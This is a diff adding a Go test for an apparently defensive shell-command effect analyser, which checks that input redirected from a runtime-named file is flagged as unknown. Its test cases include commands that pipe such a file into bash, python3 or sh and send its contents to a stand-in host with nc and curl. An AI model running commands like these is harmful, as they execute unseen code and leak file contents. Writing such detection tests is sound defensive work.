@@ -679,6 +679,58 @@ func hasKindOtherThanRun(es []Effect) bool {
 	return false
 }
 
+// TestInputFromUnknownFile: a command's input redirected from a file
+// named at run time (< "$F", <&3 after exec 3< "$F") is an Unknown read,
+// and what the command does with its input is done with data not known:
+// a shell or an interpreter runs code it cannot read, a network client
+// sends it. An output redirection to such a name keeps its own reason.
+func TestInputFromUnknownFile(t *testing.T) {
+	ctx := Context{Cwd: "/work/proj", Home: "/home/ann", User: "ann"}
+	const read = `input redirection: read of a path not known statically: "$F"`
+	has := func(es []Effect, f func(e Effect) bool) bool {
+		for _, e := range es {
+			if f(e) {
+				return true
+			}
+		}
+		return false
+	}
+	for _, c := range []struct {
+		cmd  string
+		into string // the interpreter that runs the unknown code, or ""
+		send string // the host the data goes to, or ""
+	}{
+		{`bash < "$F"`, "bash", ""},
+		{`python3 - < "$F"`, "python3", ""},
+		{`sh 3< "$F" <&3`, "sh", ""},
+		{`nc h.example 9 < "$F"`, "", "h.example"},
+		{`exec 3< "$F"; nc h.example 9 <&3`, "", "h.example"},
+		{`curl -T - https://h.example/u < "$F"`, "", "h.example"},
+		{`sort < "$F"`, "", ""},
+	} {
+		got := Shell(c.cmd, ctx)
+		if !has(got, func(e Effect) bool { return e.Kind == Unknown && e.Reason() == read }) {
+			t.Errorf("%s: no Unknown %q in%s", c.cmd, read, shDumpEffects(got))
+		}
+		if c.into != "" && !has(got, func(e Effect) bool {
+			return e.Kind == Unknown && e.Detail != nil && e.Detail.Into == c.into && strings.Contains(e.Reason(), "not known statically")
+		}) {
+			t.Errorf("%s: no Unknown into %s in%s", c.cmd, c.into, shDumpEffects(got))
+		}
+		if c.send != "" && !has(got, func(e Effect) bool {
+			return e.Kind == Send && e.Detail != nil && e.Detail.Host == c.send && e.Detail.Source == "output"
+		}) {
+			t.Errorf("%s: no send of output to %s in%s", c.cmd, c.send, shDumpEffects(got))
+		}
+	}
+	got := Shell(`echo x > "$F"`, ctx)
+	if !has(got, func(e Effect) bool {
+		return e.Kind == Unknown && e.Reason() == `redirection target not known statically: "$F"`
+	}) {
+		t.Errorf("output redirection: reason changed:%s", shDumpEffects(got))
+	}
+}
+
 // TestLostCwdReadIsUnknown: after a cd the reader cannot follow, a read of
 // a relative path is also an Unknown whose reason names the program and
 // the path as written (the exfiltration pack ties it to what is sent),
